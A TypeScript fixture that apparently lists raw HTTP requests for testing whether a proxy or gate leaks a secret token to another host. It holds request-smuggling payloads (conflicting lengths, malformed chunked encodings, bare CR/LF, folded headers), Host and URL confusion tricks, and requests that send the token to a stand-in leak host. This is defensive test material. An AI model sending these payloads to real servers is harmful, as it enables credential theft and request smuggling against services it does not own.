/** Bytes that a command sends, to make the host or the gate give the value to somebody. */
export interface RequestAttempt {
  name: string;
  /** What is sent, piece by piece. `{HOST}` is the authority of the host, `{LEAK}` that of another one. */
  send: string[];
  pause?: number;
}

const of = (name: string, ...send: string[]): RequestAttempt => ({ name, send });
const KEY = 'X-Key: {TOKEN}\r\n';
const get = (lines: string, path = '/') => `GET ${path} HTTP/1.1\r\nHost: {HOST}\r\n${lines}\r\n`;
const post = (lines: string, body: string) => `POST / HTTP/1.1\r\nHost: {HOST}\r\n${KEY}${lines}\r\n${body}`;
const SMUGGLED = 'GET /x HTTP/1.1\r\nHost: {LEAK}\r\nX-Key: {TOKEN}\r\n\r\n';

/** Requests that name another host than their connection. */
const hosts: [name: string, text: string][] = [
  ['another Host', `GET / HTTP/1.1\r\nHost: {LEAK}\r\n${KEY}\r\n`],
  ['two Hosts', `GET / HTTP/1.1\r\nHost: {HOST}\r\nHost: {LEAK}\r\n${KEY}\r\n`],
  ['two Hosts the other way', `GET / HTTP/1.1\r\nHost: {LEAK}\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['no Host', `GET / HTTP/1.1\r\n${KEY}\r\n`],
  ['an empty Host', `GET / HTTP/1.1\r\nHost:\r\n${KEY}\r\n`],
  ['a Host with a user', `GET / HTTP/1.1\r\nHost: {HOST}@{LEAK}\r\n${KEY}\r\n`],
  ['a Host with the user of another', `GET / HTTP/1.1\r\nHost: {LEAK}@{HOST}\r\n${KEY}\r\n`],
  ['a Host with another port', `GET / HTTP/1.1\r\nHost: api.example.test:1\r\n${KEY}\r\n`],
  ['a Host with a dot at its end', `GET / HTTP/1.1\r\nHost: api.example.test.\r\n${KEY}\r\n`],
  ['a Host below another', `GET / HTTP/1.1\r\nHost: {HOST}.leak.example.test\r\n${KEY}\r\n`],
  ['a Host in a list', `GET / HTTP/1.1\r\nHost: {HOST}, {LEAK}\r\n${KEY}\r\n`],
  ['a Host with a tab', `GET / HTTP/1.1\r\nHost: {HOST}\t{LEAK}\r\n${KEY}\r\n`],
  ['a folded Host', `GET / HTTP/1.1\r\nHost:\r\n {LEAK}\r\n${KEY}\r\n`],
  ['a Host with a space before its colon', `GET / HTTP/1.1\r\nHost : {LEAK}\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a whole URL of another', `GET https://{LEAK}/ HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a whole URL of another with its Host', `GET https://{LEAK}/ HTTP/1.1\r\nHost: {LEAK}\r\n${KEY}\r\n`],
  ['a whole URL in plain text', `GET http://{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a whole URL with a user', `GET https://{HOST}@{LEAK}/ HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a whole URL and no Host', `GET https://{LEAK}/ HTTP/1.1\r\n${KEY}\r\n`],
  ['a URL without a scheme', `GET //{LEAK}/ HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a URL of another scheme', `GET ftp://{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['X-Forwarded-Host', get(`X-Forwarded-Host: {LEAK}\r\nForwarded: host={LEAK}\r\n${KEY}`)],
  ['HTTP/1.0 with another Host', `GET / HTTP/1.0\r\nHost: {LEAK}\r\n${KEY}\r\n`],
  ['HTTP/1.0 without one', `GET / HTTP/1.0\r\n${KEY}\r\n`],
  ['HTTP/0.9', 'GET /{TOKEN}\r\n'],
  ['CONNECT', `CONNECT {LEAK} HTTP/1.1\r\nHost: {LEAK}\r\n${KEY}\r\n`],
  ['CONNECT to itself', `CONNECT {HOST} HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n${SMUGGLED}`],
  ['CONNECT by a header', get(`X-HTTP-Method-Override: CONNECT\r\n${KEY}`)],
  ['PRI', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${KEY}`],
  ['HTTP/2 that was not agreed on', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0`],
];

/** Requests of which one server reads one, and another reads two. */
const smuggled: [name: string, text: string][] = [
  ['both lengths', post('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${SMUGGLED}`)],
  ['both lengths the other way', post('Transfer-Encoding: chunked\r\nContent-Length: 5\r\n', `0\r\n\r\n${SMUGGLED}`)],
  ['two lengths', post('Content-Length: 0\r\nContent-Length: 90\r\n', SMUGGLED)],
  ['a list of lengths', post('Content-Length: 0, 90\r\n', SMUGGLED)],
  ['a length with a sign', post('Content-Length: +0\r\n', SMUGGLED)],
  ['a negative length', post('Content-Length: -1\r\n', SMUGGLED)],
  ['a length of base 16', post('Content-Length: 0x0\r\n', SMUGGLED)],
  ['a length with a space', post('Content-Length : 0\r\n', SMUGGLED)],
  ['a length in a fold', post('Content-Length:\r\n 0\r\n', SMUGGLED)],
  ['a length that is too large', post('Content-Length: 99999999999999999999\r\n', SMUGGLED)],
  ['an empty length', post('Content-Length:\r\n', SMUGGLED)],
  ['a length by Connection', post('Content-Length: 4\r\nConnection: Content-Length\r\n', `abcd${SMUGGLED}`)],
  [
    'chunked by Connection',
    post('Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding\r\n', `0\r\n\r\n${SMUGGLED}`),
  ],
  ['a Host by Connection', get(`Connection: Host\r\n${KEY}`)],
  ['the secret by Connection', get(`Connection: X-Key\r\n${KEY}`)],
  ...[
    'xchunked',
    'chunked, identity',
    'identity',
    'identity, chunked',
    'chunked, chunked',
    'CHUNKED',
    '\x0bchunked',
    ' chunked ',
    '"chunked"',
    'chunked;x',
    'gzip, chunked',
    'x, chunked',
    'chunked\r\nTransfer-Encoding: identity',
    'chunked\r\nTransfer-Encoding: x',
    'x\r\nTransfer-Encoding: chunked',
    '\r\n chunked',
  ].map((coding): [string, string] => [
    `coding ${JSON.stringify(coding)}`,
    post(`Content-Length: 4\r\nTransfer-Encoding: ${coding}\r\n`, `0\r\n\r\n${SMUGGLED}`),
  ]),
  ['chunked with an underscore', post('Transfer_Encoding: chunked\r\n', `0\r\n\r\n${SMUGGLED}`)],
  ['chunked with a space', post('Transfer-Encoding : chunked\r\n', `0\r\n\r\n${SMUGGLED}`)],
  [
    'chunked in HTTP/1.0',
    `POST / HTTP/1.0\r\nHost: {HOST}\r\n${KEY}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  ],
  ...[
    '0;x={TOKEN}\r\n\r\n',
    '0\n\n',
    '0\r\r',
    '00000000000000000000000\r\n\r\n',
    '-1\r\n\r\n',
    '+0\r\n\r\n',
    '0x0\r\n\r\n',
    '0 \r\n\r\n',
    ' 0\r\n\r\n',
    '1\r\nab\r\n0\r\n\r\n',
    'ffffffffffffffff0\r\n\r\n',
    'fffffffffffffffe\r\n\r\n',
    '2;\r\nab\n0\r\n\r\n',
    '2;\nab\r\n0\r\n\r\n',
    '\r\n0\r\n\r\n',
    '0\r\nHost: {LEAK}\r\nX-Key: {TOKEN}\r\n\r\n',
    '0\r\nContent-Length: 50\r\n\r\n',
  ].map((chunks): [string, string] => [
    `chunks ${JSON.stringify(chunks)}`,
    post('Transfer-Encoding: chunked\r\n', `${chunks}${SMUGGLED}`),
  ]),
  ['a folded header', get(`X-Key:\r\n {TOKEN}\r\nX: a\r\n b: {TOKEN}\r\n`)],
  ['a fold at the start', `GET / HTTP/1.1\r\n Host: {LEAK}\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a bare CR', get(`X-Key: {TOKEN}\rHost: {LEAK}\r\n`)],
  ['a bare CR in the target', `GET /\rX HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a bare LF', `GET / HTTP/1.1\nHost: {HOST}\nX-Key: {TOKEN}\n\n`],
  ['a NUL', get('X-Key: {TOKEN}\0\r\nX: \0\r\n')],
  ['a NUL in a name', get('X\0-Key: {TOKEN}\r\n')],
  ['a name with a space', get('X Key: {TOKEN}\r\n')],
  ['a header without a colon', get('{TOKEN}\r\n')],
  ['a header without a name', get(': {TOKEN}\r\n')],
  ['lines before the request', `\r\n\r\n${get(KEY)}`],
  ['a space before the request', ` ${get(KEY)}`],
  ['two spaces', `GET  /  HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
  ['a body of GET', get(`Content-Length: 90\r\n${KEY}`) + SMUGGLED],
  ['Expect that nobody waits for', post('Expect: 100-continue\r\nContent-Length: 4\r\n', `abcd${SMUGGLED}`)],
  ['another Expect', post('Expect: {TOKEN}\r\nContent-Length: 4\r\n', 'abcd')],
  ['an upgrade that is followed', get(`Connection: Upgrade\r\nUpgrade: websocket\r\n${KEY}`) + SMUGGLED],
  [
    'an upgrade with a body',
    post('Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\nContent-Length: 4\r\n', 'abcd'),
  ],
  ['a request in the path', `GET /%0d%0aX-Key:%20{TOKEN} HTTP/1.1\r\nHost: {HOST}\r\n${KEY}\r\n`],
];

/** Stand-ins in places in which they may not stand, or in pieces that only the host puts together. */
const placed: [name: string, text: string][] = [
  ['the path', get(KEY, '/a/{TOKEN}/b')],
  ['the path, escaped', get('', '/a/{TOKEN.url}/b')],
  ['the query', get('', '/a?t={TOKEN}')],
  ['the query, escaped', get('', '/a?t={TOKEN.url}')],
  ['the query in base64', get('', '/a?t={TOKEN.b64}')],
  ['the fragment', get('', '/a#{TOKEN}')],
  ['the user of a URL', `GET https://{TOKEN}@{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\n\r\n`],
  ['the method', `{TOKEN} / HTTP/1.1\r\nHost: {HOST}\r\n\r\n`],
  ['the version', `GET / HTTP/{TOKEN}\r\nHost: {HOST}\r\n\r\n`],
  ['the name of a header', get('{TOKEN}: 1\r\n')],
  ['the Host', `GET / HTTP/1.1\r\nHost: {TOKEN}.{LEAK}\r\n\r\n`],
  ['a body', post('Content-Length: 41\r\n', 'x{TOKEN}')],
  ['a body of JSON', post('Content-Type: application/json\r\nContent-Length: 42\r\n', '"{TOKEN}"')],
  ['a trailer', post('Transfer-Encoding: chunked\r\nTrailer: X-T\r\n', '0\r\nX-T: {TOKEN}\r\n\r\n')],
  ['the extension of a chunk', post('Transfer-Encoding: chunked\r\n', '1;{TOKEN}\r\nx\r\n0\r\n\r\n')],
  ['Basic without padding', get('Authorization: Basic {TOKEN.b64}x\r\n')],
  ['Basic with another case', get('AUTHORIZATION: bAsIc {TOKEN.basic}\r\n')],
  ['Basic in another header', get('Proxy-Authorization: Basic {TOKEN.basic}\r\n')],
  ['hexadecimal', get('X-Key: {TOKEN.hex}\r\n')],
  ['small letters', get('X-Key: {TOKEN.lower}\r\n')],
  ['capital letters', get('X-Key: {TOKEN.upper}\r\n')],
  ['two halves in two headers', get('X-Key: {TOKEN.half}\r\nX-Key: {TOKEN.rest}\r\n')],
  ['two halves in one header', get('X-Key: {TOKEN.half} {TOKEN.rest}\r\n')],
  ['five times', get('X-Key: {TOKEN}{TOKEN}\r\nCookie: a={TOKEN}; b={TOKEN}\r\nReferer: {TOKEN}\r\n')],
  ['a Referer', get('Referer: https://{LEAK}/{TOKEN}\r\n')],
  ['an Origin', get('Origin: https://{TOKEN}.{LEAK}\r\n')],
  ['a Range', get('Range: bytes=0-{TOKEN}\r\n')],
  ['Connection', get('Connection: {TOKEN}\r\n')],
  ['Upgrade', get('Connection: Upgrade\r\nUpgrade: {TOKEN}\r\n')],
  ['TE', get('TE: {TOKEN}\r\n')],
  ['Accept-Encoding', get('Accept-Encoding: {TOKEN}\r\n')],
  ['Content-Length', post('Content-Length: {TOKEN}\r\n', '')],
  ['Max-Forwards of TRACE', `TRACE / HTTP/1.1\r\nHost: {HOST}\r\nMax-Forwards: 0\r\n${KEY}\r\n`],
  [
    'a signature of AWS',
    get(
      'Authorization: AWS4-HMAC-SHA256 Credential={TOKEN}/20260101/us/s3/aws4_request, SignedHeaders=host, Signature=00\r\n',
    ),
  ],
  ["another world's stand-in", get('X-Key: {FOREIGN}\r\n')],
  ["another world's stand-in in Basic", get('Authorization: Bearer {FOREIGN}\r\nX-Key: {FOREIGN}\r\n')],
  ['the stand-in of another host', get('X-Key: {OTHER}\r\n')],
  ['the stand-in of another host in Basic', get('Authorization: Basic {OTHER.basic}\r\n')],
  ['the stand-in of another host in base64', get('X-Key: {OTHER.b64}\r\n')],
  ['both stand-ins', get('X-Key: {TOKEN}{OTHER}\r\n')],
  ['a header that is long', get(`X-Long: ${'x'.repeat(60_000)}\r\n${KEY}`)],
  ['a header that is too long', get(`X-Long: ${'x'.repeat(200_000)}{TOKEN}\r\n`)],
  ['many headers', get('X-Key: {TOKEN}\r\n'.repeat(90))],
  ['too many headers', get('X-Key: {TOKEN}\r\n'.repeat(900))],
];

const cut = (text: string, at: number) => [text.slice(0, at), text.slice(at)];

export const requests: RequestAttempt[] = [
  ...hosts.map(([name, text]) => of(`host: ${name}`, text)),
  ...smuggled.map(([name, text]) => of(`smuggle: ${name}`, text)),
  ...placed.map(([name, text]) => of(`stand-in in ${name}`, text)),
  of('ten requests at once', get(KEY).repeat(10)),
  of('ten requests, the fifth to another host', `${get(KEY).repeat(4)}${SMUGGLED}${get(KEY).repeat(5)}`),
  of(
    'a request byte by byte',
    ...get(KEY)
      .replace('{TOKEN}', '{TOKEN}')
      .split(/(?<=\n)/),
  ),
  of(
    'a request cut in its stand-in',
    ...cut(get('X-Key: {TOKEN.half}{TOKEN.rest}\r\n'), get('X-Key: {TOKEN.half}').length - 2),
  ),
  of('a head that never ends', `GET / HTTP/1.1\r\nHost: {HOST}\r\n${KEY}X: `, 'x'),
  of('a body that never comes', post('Content-Length: 100\r\n', 'abc')),
  of('a body that is cut', post('Transfer-Encoding: chunked\r\n', '5\r\nabc')),
];
